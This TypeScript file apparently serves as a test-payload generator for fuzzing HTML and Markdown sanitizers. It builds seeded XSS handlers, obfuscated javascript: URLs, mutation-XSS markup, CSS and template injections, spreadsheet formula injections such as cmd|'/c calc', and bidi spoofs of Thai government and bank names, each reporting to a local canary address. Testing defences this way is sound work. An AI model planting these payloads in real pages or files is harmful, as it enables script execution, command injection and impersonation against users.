// Texts and markup that try to run, to load, to break out or to look like something else. Made by combination from parts of
// our own; `canary` is an address that nobody must ever ask for, and `run` what must never be run.
import { randomFrom } from './contract.ts';

export type PayloadKind =
  | 'handler'
  | 'address'
  | 'mutation'
  | 'style'
  | 'load'
  | 'template'
  | 'markdown'
  | 'formula'
  | 'spoof';

export interface Payload {
  id: string;
  kind: PayloadKind;
  text: string;
}

/** The global that a payload sets when it runs. */
export const CANARY = '__wonglepCanary';

const TAGS = [
  ...[
    'img',
    'svg',
    'video',
    'audio',
    'iframe',
    'body',
    'input',
    'details',
    'marquee',
    'math',
    'object',
    'embed',
  ],
  ...[
    'select',
    'textarea',
    'button',
    'form',
    'style',
    'link',
    'script',
    'source',
    'track',
    'dialog',
    'frameset',
  ],
  ...[
    'animate',
    'set',
    'image',
    'a',
    'area',
    'p',
    'span',
    'table',
    'td',
    'time',
    'x-y',
    'isindex',
    'bgsound',
  ],
];
const EVENTS = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onstart',
    'onbegin',
    'onanimationstart',
    'onpointerrawupdate',
  ],
  ...[
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
    'onscrollend',
    'onmouseover',
    'ONERROR',
    'onerror\u00ad',
  ],
];
/** What stands between tag and attribute, and around the value. */
const GAPS = [' ', '/', '\t', '\n', '\f', ' x=">" ', " x='\"' ", '\r\n/'];
const QUOTES: [string, string][] = [
  ['"', '"'],
  ["'", "'"],
  ['', ''],
  ['`', '`'],
];
const CLOSERS = [
  ...[
    '',
    '">',
    "'>",
    '-->',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
  ],
  ...[
    '</p></div></section></article>',
    '\u0000>',
    '</xmp>',
    '</select>',
    '</svg>',
    '</math>',
    '<!--',
    '*/',
    '`}',
  ],
];

const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    '\u0001javascript:',
    '\u001fjavascript:',
  ],
  ...[
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    'jav&#x09;ascript:',
    'jav&Tab;ascript:',
    'javascript&colon;',
  ],
  ...[
    '&#106;avascript:',
    '&#x6A;&#x61;vascript:',
    '&#0000106avascript:',
    'javascript&#58;',
    'javascript&#x3A;',
  ],
  ...[
    '\u00a0javascript:',
    '\ufeffjavascript:',
    '\u200bjavascript:',
    'javascript://%0a',
    'javascript:/**/',
    'vbscript:',
  ],
  ...[
    'livescript:',
    'mocha:',
    'feed:javascript:',
    'view-source:javascript:',
    'jar:javascript:',
    'java\\script:',
  ],
  ...['//javascript:', 'http:javascript:', 'https:/javascript:', 'javascript:javascript:', '%6aavascript:'],
];
const DOCUMENTS = [
  'data:text/html,',
  'DATA:text/html;charset=utf-8,',
  'data:image/svg+xml,',
  'data:text/xml,',
];

const CARRIERS: ((url: string) => string)[] = [
  (url) => `<a href="${url}">ก</a>`,
  (url) => `<a href='${url}' target=_self autofocus>ก</a>`,
  (url) => `<area href="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>ก</button></form>`,
  (url) => `<button formaction="${url}">ก</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>ก</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}" /><text>ก</text></a></svg>`,
  (url) => `<math href="${url}">ก</math>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}"><a href="x">ก</a>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<img src="${url}">`,
];

/** Markup that means something else the second time it is read; `%` stands for what must not come out. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;%">',
  '<math><mtext><table><mglyph><style><math>%</style></math>',
  '<form><math><mtext></form><form><mglyph><style></math>%',
  '<svg></p><style><a id="</style>%">',
  '<svg><style><!--</style>%-->',
  '<svg><desc><noscript>%</noscript></desc></svg>',
  '<svg><foreignObject><textarea></foreignObject>%</textarea></svg>',
  '<svg><annotation-xml encoding="text/html"><style>%</style></annotation-xml></svg>',
  '<math><annotation-xml encoding="text/html"><p><style>%</style></p></annotation-xml></math>',
  '<noscript><p title="</noscript>%">',
  '<noembed><p title="</noembed>%">',
  '<noframes><p title="</noframes>%">',
  '<xmp><p title="</xmp>%">',
  '<listing>&lt;img&gt;<p title="</listing>%">',
  '<title><p title="</title>%">',
  '<textarea><p title="</textarea>%">',
  '<template><p title="</template>%"></template>',
  '<iframe srcdoc="%"></iframe>',
  '<select><template><style><!--</style>%--></template></select>',
  '<plaintext>%',
  '<!--><p title="-->%">',
  '<!--!>%-->',
  '<!-- --!>%-->',
  '<![CDATA[><p title="]]>%">',
  '<?xml-stylesheet ?>%<?p ?>',
  '<table><a href="#">%<table></a>',
  '<b><p><b></p>%</b>',
  '<p id="&quot;>%">',
  "<p title='&apos;>%'>",
  '<p title=`%`>',
  '<a><br title="<a x"></a><p title=">%">ก</p>',
  '<div><hr title="<div x"></div><p title=">%">ก</p>',
  '<p><br title="<p x"></p><i title=">%">ก</i>',
  '<span><br lang="<span x"></span><b lang=">%">ก</b>',
  '<li><br title="<li ></li>"></li><p title=">%">',
  '<time datetime="<i></i>%">ก</time>',
  '<a href="https://x.example/<a ></a>%">ก</a>',
  '<td><svg><p></td>%',
  '<svg><title><![CDATA[</title>%]]>',
  '<a title="&lt;/a&gt;&lt;p&gt;%">ก</a>',
  '<del cite="%">ก</del>',
];

const LOADS = [
  '<img src="%">',
  '<img srcset="% 1x, % 2x">',
  '<picture><source srcset="%"><img></picture>',
  '<video poster="%" autoplay><source src="%"></video>',
  '<audio src="%" autoplay></audio>',
  '<video><track default src="%"></video>',
  '<link rel=stylesheet href="%">',
  '<link rel=prefetch href="%"><link rel=preload as=image href="%"><link rel=preconnect href="%">',
  '<link rel=dns-prefetch href="%"><link rel=modulepreload href="%"><link rel=icon href="%">',
  '<script src="%"></script>',
  '<script type=module>import "%"</script>',
  '<script type=importmap>{"imports":{"a":"%"}}</script>',
  '<iframe src="%"></iframe>',
  '<iframe srcdoc="<img src=%>"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<input type=image src="%">',
  '<body background="%"><table background="%"><tr><td background="%">',
  '<svg><image href="%" width=9 height=9 /></svg>',
  '<svg><use href="%#a"/></svg>',
  '<svg><filter id=f><feImage href="%"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  '<svg><script href="%"></script></svg>',
  '<meta http-equiv=refresh content="0;url=%">',
  '<a href="https://khao.example/" ping="%">ก</a>',
  '<q cite="%">ก</q><blockquote cite="%">ก</blockquote><ins cite="%">ก</ins>',
  '<math><mglyph src="%"></math>',
  '<frameset><frame src="%"></frameset>',
  '<bgsound src="%"><portal src="%"></portal><fencedframe src="%"></fencedframe>',
  '<img src=x lowsrc="%" dynsrc="%" longdesc="%">',
  '<html manifest="%">',
];

const STYLES = [
  'background:url(%)',
  'background:u\\72l(%)',
  'background-image:image-set("%" 1x)',
  'list-style-image:url(%)',
  'cursor:url(%),auto',
  'content:url(%)',
  'mask:url(%)',
  'filter:url(%#f)',
  'border-image:url(%) 30',
  'shape-outside:url(%)',
  '--a:url(%);background:var(--a)',
  'width:expression(alert(1))',
  '-moz-binding:url(%#x)',
  'behavior:url(%)',
  'position:fixed;inset:0;z-index:9999',
];
const STYLE_CARRIERS: ((css: string) => string)[] = [
  (css) => `<p style="${css}">ก</p>`,
  (css) => `<style>*{${css}}</style>`,
  (css) => `<svg><style>*{${css}}</style></svg>`,
  (css) => `<p title="</p><style>*{${css}}</style>">ก</p>`,
  (css) => `<p style='${css.replaceAll(':', '&colon;')}'>ก</p>`,
];
const SHEETS = [
  '<style>@import "%";</style>',
  "<style>@import url('%');</style>",
  '<style>@font-face{font-family:w;src:url(%)}*{font-family:w}</style>',
  '<style>input[value^="a"]{background:url(%)}</style><input value="abc">',
  '<style>@namespace url(%);</style>',
  '<style>:visited{background:url(%)}</style>',
  '<link rel="stylesheet" href="data:text/css,@import%20url(%)">',
];

const TEMPLATES = [
  '{{constructor.constructor("RUN")()}}',
  '{{[].pop.constructor("RUN")()}}',
  '{{$on.constructor("RUN")()}}',
  '\u0024{RUN}',
  '$' + '{{RUN}}',
  '<%= RUN %>',
  '<% RUN %>',
  '#{RUN}',
  '[[RUN]]',
  '{%raw%}{{RUN}}{%endraw%}',
  '{RUN}',
  '{thai}{english}{__proto__}{constructor}',
  "$1$2$9$&$`$'$$",
  '__MSG_extension_name__ __MSG_@@extension_id__',
  '{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"RUN"}}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '%s%n%x%c',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;',
  '%3Cscript%3ERUN%3C/script%3E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\u00bcscript\u00beRUN\u00bc/script\u00be',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  "';RUN;'",
  '";RUN;"',
  '\\";RUN//',
  '*/RUN/*',
  '-->RUN<!--',
];

const MARKDOWN = [
  '[ก](javascript:RUN)',
  '[ก](<javascript:RUN>)',
  '![ก](%)',
  '![[%]]',
  '[[%|ก]]',
  '<%>',
  '<javascript:RUN>',
  '[ก]: javascript:RUN',
  '[ก]: % "x"',
  '[ก][ก]',
  '<img src="%" onerror=RUN>',
  '<iframe src="%"></iframe>',
  '`$= RUN`',
  '```dataviewjs\nRUN\n```',
  '~~~dataviewjs\nRUN\n~~~',
  '<%* RUN %>',
  '---\ncssclasses: x\n---',
  '# หัวเรื่อง',
  '> [!note] ก',
  '> <img src=% >',
  '$$\\href{javascript:RUN}{x}$$',
  '- [ ] ก',
  '1. ก',
  '%%ซ่อน%%',
  '==เน้น==',
  '^block #tag @name',
  '| a | b |\n|---|---|',
  '    <img src=% >',
  'ก\n===\nข',
  '[^1]: <img src=% >',
];

const FORMULAS = [
  '=HYPERLINK("%","ก")',
  '=WEBSERVICE("%")',
  '=IMPORTXML("%","//a")',
  '=IMAGE("%")',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  "-cmd|'/c calc'!A0",
  "@SUM(cmd|'/c calc'!A0)",
  '=1+1',
  '+1+1',
  '-1+1',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201',
  '\u22121+1',
  '"=1+1',
  "'=1+1",
  '",=1+1',
  '";=1+1',
  'ก\r\n=1+1',
  'ก\n=1+1',
  'ก\t=1+1',
  'ก,=1+1',
  'ก;=1+1',
  'ก|=1+1',
  '%0A=1+1',
  '|calc',
  '=',
  '-',
  '--1',
];

const NAMES = ['กรมสรรพากร', 'ธนาคารแห่งประเทศไทย', 'Revenue Department', 'กกต.'];
const SPOOFS = [
  ...[
    '\u202e',
    '\u202d',
    '\u202a',
    '\u202b',
    '\u202c',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
    '\u200f',
  ],
  ...[
    '\u061c',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\u2061',
    '\u2062',
    '\u2063',
    '\u2064',
    '\ufeff',
    '\u00ad',
  ],
  ...[
    '\u180e',
    '\u034f',
    '\u115f',
    '\u3164',
    '\uffa0',
    '\u2028',
    '\u2029',
    '\u0000',
    '\u0007',
    '\u001b[31m',
    '\u007f',
  ],
  ...[
    '\u0085',
    '\u{e0041}',
    '\u{e0001}',
    '\ufff9',
    '\ufffa',
    '\ufffb',
    '\ufe0f',
    '\u206a',
    '\u206f',
    '\ud800',
    '\udc00',
  ],
];

/** Something that runs a line: sets the canary, asks to be seen, and asks for the canary's address. */
function lines(canary: string, id: string): string[] {
  return [
    `top.${CANARY}='${id}'`,
    'alert(1)',
    `fetch('${canary}/${id}')`,
    `import('${canary}/${id}.js')`,
    `new Image().src='${canary}/${id}'`,
    `location='${canary}/${id}'`,
  ];
}

/**
 * Some 1,700 payloads, always the same for the same seed.
 * @param canary e.g. `http://127.0.0.1:40000/canary`; each asks below it for its own id
 */
export function payloads(canary: string, seed: number): Payload[] {
  const random = randomFrom(seed);
  const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const made: Payload[] = [];
  const add = (kind: PayloadKind, write: (id: string) => string) => {
    const id = `${kind}-${made.length}`;
    const address = `${canary}/${id}`;
    const text = write(id)
      .replaceAll('RUN', one(lines(canary, id)))
      .replaceAll('%ADDRESS', address);
    made.push({ id, kind, text });
  };
  const live = (id: string) => `<img src=%ADDRESS onerror="${one(lines(canary, id))}">`;

  for (const tag of TAGS) {
    for (let i = 0; i < 10; i++) {
      add('handler', (id) => {
        const [open, close] = one(QUOTES);
        const gap = one(GAPS);
        const js = one(lines(canary, id)).replaceAll(/["']/g, (q) => (q === open ? '&#39;' : q));
        const more = one([
          '',
          ' autofocus tabindex=1',
          ' src=x',
          ' open',
          ' style="animation:x 1s"',
          ' href=%ADDRESS',
        ]);
        return `${one(CLOSERS)}<${one([tag, tag.toUpperCase(), tag])}${gap}${one(EVENTS)}=${open}${js}${close}${more}${one(['>', '/>', '', `></${tag}>`])}`;
      });
    }
  }
  for (const [i, scheme] of [...SCHEMES, ...DOCUMENTS].entries()) {
    for (let n = 0; n < 8; n++) {
      add('address', (id) => {
        const document = i >= SCHEMES.length;
        const js = one(lines(canary, id));
        const rest = document ? `<script>${js}</script>`.replaceAll('"', '&quot;') : js;
        return CARRIERS[(i * 5 + n * 3) % CARRIERS.length]!(scheme + rest.replaceAll('"', '&quot;'));
      });
    }
    // The address alone, for fields that are addresses.
    add('address', (id) => scheme + one(lines(canary, id)));
  }
  for (const mutation of MUTATIONS) {
    for (const inner of [
      live,
      () => '<script>RUN</script>',
      () => '<svg onload=RUN>',
      () => '<iframe src=%ADDRESS></iframe>',
    ])
      add('mutation', (id) => {
        const text = inner(id);
        // Inside an attribute the quotes are the mutation's own; some are left raw, some written as references.
        return mutation.replaceAll(
          '%',
          random() < 0.5 ? text.replaceAll('"', "'") : text.replaceAll('"', '&quot;'),
        );
      });
  }
  for (const load of LOADS) {
    add('load', () => load.replaceAll('%', '%ADDRESS'));
    add('load', () => one(CLOSERS) + load.replaceAll('%', '%ADDRESS'));
  }
  for (const carrier of STYLE_CARRIERS)
    for (const style of STYLES) add('style', () => carrier(style.replaceAll('%', '%ADDRESS')));
  for (const sheet of SHEETS) add('style', () => sheet.replace(/%(?!20)/g, '%ADDRESS'));
  for (const template of TEMPLATES)
    for (let i = 0; i < 3; i++) add('template', () => one(['', 'ก ', '" ']) + template);
  for (const markdown of MARKDOWN)
    for (const before of ['', 'ก\n', '\\', '> '])
      add('markdown', () => before + markdown.replace(/%(?!%)(?<!%%)/g, '%ADDRESS'));
  for (const formula of FORMULAS) {
    add('formula', () => formula.replace(/%(?!0A)/g, '%ADDRESS'));
    add('formula', () => formula.replace(/%(?!0A)/g, '%ADDRESS') + one(['\t', ' ', '"', ',', '\u202c']));
  }
  for (const mark of SPOOFS)
    for (const name of NAMES.slice(0, 3)) {
      const at = 1 + Math.floor(random() * (name.length - 1));
      add('spoof', () => name.slice(0, at) + mark + name.slice(at));
    }
  add('spoof', () => `กรม${'\u0e49'.repeat(200)}`);
  add('spoof', () => `${'\u202e'.repeat(50)}กรม${'\u2066'.repeat(100)}`);
  return made;
}
